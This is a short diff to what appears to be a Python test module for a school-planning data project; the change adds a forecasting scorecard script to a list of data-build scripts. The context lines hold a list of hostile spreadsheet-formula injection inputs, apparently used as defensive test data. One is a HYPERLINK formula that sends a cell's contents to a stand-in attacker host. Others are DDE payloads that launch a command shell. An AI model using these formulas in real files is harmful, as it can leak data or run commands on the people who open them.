@@ -19,7 +19,7 @@ ROOT = Path(__file__).resolve().parents[2]
 PACKAGES = ["sufficiency", "forecasting", "optimiser", "standards", "post16", "admissions", "reports", "api",
             "geodata"]
 #: Scripts that rebuild the product's own reference data from published files (no user text).
-DATA_BUILDS = {"admissions/dfe.py", "post16/data/build_data.py", "standards/data/build.py",
+DATA_BUILDS = {"admissions/dfe.py", "forecasting/scorecards.py", "post16/data/build_data.py", "standards/data/build.py",
                "sufficiency/sample/build.py"}
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
